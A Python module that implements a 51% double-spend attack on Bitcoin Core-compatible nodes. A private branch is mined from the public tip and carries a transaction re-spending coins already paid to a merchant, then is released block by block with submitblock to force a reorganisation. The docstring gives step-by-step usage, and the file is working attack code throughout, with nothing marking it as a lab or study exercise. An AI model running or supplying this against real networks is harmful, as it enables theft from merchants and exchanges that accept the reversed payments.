"""The 51% double-spend, engine side: a private branch mined from the public tip and held back,
with a transaction that spends the same coins as a payment made on the public chain, released
block by block (submitblock, in order) once it is longer. Over JSON-RPC only, so it works
against any Core-compatible node; the node reorganises to the branch with the most work.

    fork = PrivateFork.start(rpc, payout_script)        # remembers the public tip
    paid = wallet.pay(rpc, merchant, amount, 2)         # the payment the merchant sees
    fork.add_transaction(conflicting_tx, fee_sat)       # the same coins, back to the attacker
    fork.mine_block(); fork.mine_block()                # private, nothing published
    fork.status(rpc)  -> lengths of both branches; fork.release(rpc) when ahead
"""
from __future__ import annotations

import os
import threading
from dataclasses import dataclass

from bitcoin.core import CTransaction, b2lx

from engine.mining.jobs import BlockTemplate, make_job
from engine.mining.sha256d import find_nonce
from engine.wallet.wallet import DEFAULT_HALVING_INTERVAL, subsidy_sat

BLOCK_VERSION = 0x20000000  # BIP9 top bits, as Core's templates
MEDIAN_TIME_SPAN = 11  # Core chain.h: the median of the last 11 blocks' times


class AttackError(Exception):
    """The private branch cannot go on; the message says why."""


@dataclass(frozen=True)
class ForkStatus:
    fork_height: int
    private_blocks: int  # mined on the private branch
    public_blocks: int  # found by everyone else since the fork
    released: bool

    @property
    def lead(self) -> int:
        return self.private_blocks - self.public_blocks


class PrivateFork:
    """A branch built on this machine from the public tip at `start`; thread-safe."""

    def __init__(self, fork_height: int, fork_hash: str, bits: int, times: list[int], consensus: dict,
                 payout_script: bytes):
        self.fork_height, self.fork_hash = fork_height, fork_hash
        self.bits = bits
        self.times = list(times)  # header times of the last blocks, oldest first
        self.consensus = consensus
        self.payout_script = payout_script
        self.blocks: list[tuple[str, str]] = []  # (hash, block hex), in order
        self.pending: list[tuple[CTransaction, int]] = []  # for the next private block: (tx, fee)
        self.released = False
        self._lock = threading.Lock()

    @classmethod
    def start(cls, rpc, payout_script: bytes) -> "PrivateFork":
        info = rpc.call("getblockchaininfo")
        tip = rpc.call("getblockheader", info["bestblockhash"])
        times, header = [], tip
        while len(times) < MEDIAN_TIME_SPAN:
            times.insert(0, header["time"])
            if "previousblockhash" not in header:
                break
            header = rpc.call("getblockheader", header["previousblockhash"])
        return cls(tip["height"], tip["hash"], int(tip["bits"], 16), times, info.get("consensus") or {},
                   bytes(payout_script))

    @property
    def tip_height(self) -> int:
        return self.fork_height + len(self.blocks)

    def add_transaction(self, tx: CTransaction, fee_sat: int) -> None:
        with self._lock:
            self.pending.append((tx, fee_sat))

    def _bits_for(self, height: int) -> int:
        # Core pow.cpp GetNextWorkRequired: between retargets a block keeps its parent's bits
        interval = int(self.consensus.get("difficulty_adjustment_interval", 0) or 0)
        if not self.consensus.get("pow_no_retargeting", True) and interval and height % interval == 0:
            raise AttackError(f"the private branch reached a difficulty retarget (height {height}); "
                              "release it before, or start again after the retarget")
        return self.bits

    def template(self, now_s: int | None = None) -> BlockTemplate:
        """The next private block's template, as getblocktemplate would give it on our tip."""
        import time as _time
        height = self.tip_height + 1
        halving = int(self.consensus.get("subsidy_halving_interval", DEFAULT_HALVING_INTERVAL))
        txs = [{"data": tx.serialize().hex(), "txid": b2lx(tx.GetTxid()), "hash": b2lx(tx.GetHash())}
               for tx, _ in self.pending]
        median = sorted(self.times[-MEDIAN_TIME_SPAN:])[len(self.times[-MEDIAN_TIME_SPAN:]) // 2]
        now = int(_time.time() if now_s is None else now_s)
        return BlockTemplate.from_rpc({
            "height": height, "version": BLOCK_VERSION, "previousblockhash": self.blocks[-1][0] if self.blocks
            else self.fork_hash, "bits": f"{self._bits_for(height):08x}", "curtime": max(now, median + 1),
            "mintime": median + 1, "coinbasevalue": subsidy_sat(height, halving) + sum(f for _, f in self.pending),
            "transactions": txs, "rules": ["csv", "!segwit", "taproot"]})

    def mine_block(self, stop: threading.Event | None = None) -> str:
        """Hash until the next private block is found (held here, not published); its hash."""
        with self._lock:
            if self.released:
                raise AttackError("the private branch was already released")
            template = self.template()
            extranonce = os.urandom(8)
            job = make_job(template, self.payout_script, extranonce)
            nonce, start = None, 0
            while nonce is None:
                if stop is not None and stop.is_set():
                    raise AttackError("stopped")
                if start >= 1 << 32:
                    job = make_job(template, self.payout_script, os.urandom(8))
                    start = 0
                nonce = find_nonce(job.header(0), template.target, start, 1 << 20)
                start += 1 << 20
            block_hash = job.block_hash(nonce)
            self.blocks.append((block_hash, job.block_hex(nonce)))
            self.times.append(job.ntime)
            self.pending.clear()
            return block_hash

    def status(self, rpc) -> ForkStatus:
        public_height = int(rpc.call("getblockcount"))
        return ForkStatus(self.fork_height, len(self.blocks), public_height - self.fork_height, self.released)

    def release(self, rpc) -> list[str | None]:
        """submitblock every private block in order; the node's BIP22 answers."""
        with self._lock:
            self.released = True
            return [rpc.call("submitblock", block_hex) for _, block_hex in self.blocks]
